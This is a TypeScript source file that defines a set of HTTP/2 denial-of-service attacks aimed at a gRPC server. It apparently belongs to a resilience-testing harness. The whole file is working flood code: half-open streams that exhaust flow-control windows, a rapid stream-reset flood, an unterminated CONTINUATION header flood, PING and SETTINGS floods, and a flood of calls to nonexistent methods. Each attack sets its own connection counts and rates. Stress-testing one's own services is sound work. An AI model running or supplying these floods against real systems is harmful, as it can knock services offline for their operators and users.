/** What HTTP/2 makes possible on few connections. */
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from '../attack.ts';
import { callHeaders, END_HEADERS, END_STREAM, frame, headerBlock, openHttp2 } from '../http2_frames.ts';

/** Writes `burst(n)` on each of some connections so many times a second; a closed one is opened anew after a second. */
async function flood(
  target: AttackTarget,
  connections: number,
  perSecond: number,
  burst: (number: number) => Buffer,
  first: Buffer = Buffer.alloc(0),
): Promise<Record<string, number>> {
  const seen = { connections: 0, bursts: 0, closed: 0 };
  const one = async (): Promise<void> => {
    const socket = await openHttp2(target.grpcPort);
    seen.connections++;
    socket.write(first);
    const startedMs = Date.now();
    for (let number = 0; !socket.destroyed && Date.now() < target.endsMs;) {
      const due = Math.floor(((Date.now() - startedMs) / 1000) * perSecond);
      for (; number < due; number++) {
        socket.write(burst(number));
        seen.bursts++;
      }
      await sleep(20);
    }
    if (socket.destroyed) seen.closed++;
    socket.destroy();
  };
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (Date.now() < target.endsMs) {
        await one().catch(() => undefined);
        await sleep(1_000);
      }
    }),
  );
  return seen;
}

const streamNumber = (number: number): number => (2 * number + 1) & 0x7fff_ffff;
const RESET_CANCEL = Buffer.from([0, 0, 0, 8]);
const MESSAGE_START = Buffer.from([0, 0, 0xf0, 0, 0]);
/** The window of a stream that nobody widened. */
const WINDOW = 65_535;
const DATA = Buffer.alloc(16_384);

export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'half-open-streams',
    does: '50 connections with 100 calls each, 10 a second, that send 48 KiB of 15 MiB, and wait',
    run: (target) =>
      flood(target, 50, 10, (number) => {
        if (number >= 100) return Buffer.alloc(0);
        const stream = streamNumber(number);
        const parts = [
          frame('headers', END_HEADERS, stream, callHeaders(target.token)),
          frame('data', 0, stream, MESSAGE_START),
        ];
        for (let sent = 0; sent + DATA.length < WINDOW; sent += DATA.length) {
          parts.push(frame('data', 0, stream, DATA));
        }
        return Buffer.concat(parts);
      }),
  },
  {
    name: 'reset-flood',
    does: 'calls that are reset as soon as they are made, 2,000 a second on each of 4 connections',
    run: (target) =>
      flood(target, 4, 2_000, (number) =>
        Buffer.concat([
          frame('headers', END_HEADERS, streamNumber(number), callHeaders(target.token)),
          frame('reset', 0, streamNumber(number), RESET_CANCEL),
        ]),
      ),
  },
  {
    name: 'continuation-flood',
    does: 'headers without an end, in 4 KiB pieces, 500 a second on each of 4 connections',
    run: (target) =>
      flood(
        target,
        4,
        500,
        () =>
          frame(
            'continuation',
            0,
            1,
            headerBlock(Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`x-${i}`, 'x'.repeat(90)]))),
          ),
        frame('headers', 0, 1, callHeaders(target.token)),
      ),
  },
  {
    name: 'ping-flood',
    does: 'pings, 10,000 a second on each of 4 connections',
    run: (target) =>
      flood(target, 4, 100, () =>
        Buffer.concat(Array.from({ length: 100 }, () => frame('ping', 0, 0, new Uint8Array(8)))),
      ),
  },
  {
    name: 'settings-flood',
    does: 'settings, 10,000 a second on each of 4 connections',
    run: (target) =>
      flood(target, 4, 100, () =>
        Buffer.concat(
          Array.from({ length: 100 }, () => frame('settings', 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
        ),
      ),
  },
  {
    name: 'unknown-methods',
    does: 'calls of methods that are not there, 500 a second on each of 2 connections',
    run: (target) =>
      flood(target, 2, 500, (number) =>
        frame(
          'headers',
          END_HEADERS | END_STREAM,
          streamNumber(number),
          headerBlock({
            ':method': 'POST',
            ':scheme': 'http',
            ':path': `/a.B/${number}`,
            'content-type': 'application/grpc',
          }),
        ),
      ),
  },
];
